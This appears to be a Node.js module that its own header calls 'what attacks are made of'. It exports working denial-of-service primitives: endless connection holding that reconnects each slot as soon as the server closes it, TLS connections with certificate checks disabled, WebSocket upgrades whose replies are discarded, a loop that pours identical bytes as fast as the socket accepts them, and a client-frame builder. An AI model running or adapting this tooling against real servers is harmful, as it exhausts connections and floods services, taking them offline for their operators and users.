/** What attacks are made of: connections that are opened again when the server closes them. */

import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

/** @import {Socket} from 'node:net' */

/**
 * @typedef {object} Target
 * @property {string} host an address
 * @property {number} port
 */

/** How long a place stays empty after its connection was closed, in milliseconds. */
const AGAIN_AFTER = 20;
const FINISHED_TEXT = 0x81;
const MASKED = 0x80;
const [TWO_BYTES, EIGHT_BYTES] = [126, 127];

/**
 * Holds so many connections, for ever.
 *
 * @param {number} count
 * @param {(place: number) => Promise<Socket>} open
 * @param {(socket: Socket, place: number) => unknown} use
 */
export function hold(count, open, use) {
  const fill = async (/** @type {number} */ place) => {
    for (;;) {
      const socket = await open(place).catch(() => undefined);
      if (socket) {
        const closed = once(socket, 'close').catch(() => {});
        use(socket, place);
        await closed;
      }
      await pause(AGAIN_AFTER);
    }
  };
  for (let place = 0; place < count; place += 1) {
    void fill(place);
  }
}

/** A TCP connection. @param {Target} target */
export async function plain({ host, port }) {
  return opened(connect({ host, port, noDelay: true }), 'connect');
}

/**
 * A TLS connection, whatever certificate the server has.
 *
 * @param {Target} target
 * @param {import('node:tls').ConnectionOptions} [options]
 */
export async function secure({ host, port }, options = {}) {
  const socket = connectTls({ host, port, rejectUnauthorized: false, ...options });
  return /** @type {import('node:tls').TLSSocket} */ (await opened(socket, 'secureConnect'));
}

/**
 * A WebSocket over TLS, whose frames are neither read nor written by anybody: what comes is thrown
 * away.
 *
 * @param {Target} target
 * @param {string} room
 */
export async function webSocket(target, room) {
  const socket = await secure(target);
  socket.write(
    `GET /ws?room=${room} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n` +
      'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n' +
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
  );
  const [answer] = await once(socket, 'data');
  if (!answer.toString('latin1').startsWith('HTTP/1.1 101')) {
    socket.destroy();
    throw new Error('no WebSocket');
  }
  socket.resume();
  return socket;
}

/**
 * Writes the same bytes again and again, as fast as they are taken.
 *
 * @param {Socket} socket
 * @param {Buffer | string} bytes
 */
export async function pour(socket, bytes) {
  while (!socket.destroyed) {
    if (socket.write(bytes)) {
      await pause(0); // the other attacks have their turn
    } else {
      await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {});
    }
  }
}

/**
 * A frame of a client, masked with zeros.
 *
 * @param {Buffer} payload
 * @param {number} [first] its first byte: FIN and opcode
 */
export function frame(payload, first = FINISHED_TEXT) {
  const { length } = payload;
  const head = Buffer.alloc(length < TWO_BYTES ? 6 : length <= 0xffff ? 8 : 14);
  head[0] = first;
  if (length < TWO_BYTES) {
    head[1] = MASKED | length;
  } else if (length <= 0xffff) {
    head[1] = MASKED | TWO_BYTES;
    head.writeUInt16BE(length, 2);
  } else {
    head[1] = MASKED | EIGHT_BYTES;
    head.writeBigUInt64BE(BigInt(length), 2);
  }
  return Buffer.concat([head, payload]);
}

/**
 * @param {Socket} socket
 * @param {string} event that says that it is open
 */
async function opened(socket, event) {
  socket.on('error', () => socket.destroy());
  await Promise.race([
    once(socket, event),
    once(socket, 'close').then(() => {
      throw new Error('refused');
    }),
  ]);
  return socket;
}
